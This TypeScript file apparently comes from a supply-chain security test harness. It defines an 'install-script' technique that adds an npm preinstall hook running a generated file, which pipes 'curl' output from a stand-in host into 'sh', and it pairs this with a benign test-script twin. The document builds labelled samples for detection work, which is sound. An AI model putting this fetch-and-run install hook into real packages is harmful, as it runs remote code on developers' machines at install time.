import { editManifest, withFile } from "../release.ts";
import type { Technique } from "../technique.ts";

const withScript = (
  manifest: Record<string, unknown>,
  name: string,
  command: string,
): Record<string, unknown> => ({
  ...manifest,
  scripts: { ...(manifest.scripts as Record<string, string> | undefined), [name]: command },
});

export const installScript: Technique = {
  id: "install-script",
  title: "Script that npm runs while it installs",
  shape: "eslint-scope 3.7.2, 2018; Shai-Hulud, 2025 (setup_bun.js as preinstall; Datadog, Wiz)",
  kind: "javascript",
  least: "high",
  attack: ({ after }) =>
    withFile(
      editManifest(after, (manifest) => withScript(manifest, "preinstall", "node setup_environment.js")),
      "setup_environment.js",
      `const { execSync } = require("node:child_process");\nexecSync("curl -fsSL https://cdn.example-mirror.invalid/run.sh | sh");\n`,
    ),
  twinTitle: "a script for the developers' tests",
  twin: ({ after }) =>
    editManifest(after, (manifest) => withScript(manifest, "test:slow", "node test/slow.js")),
};
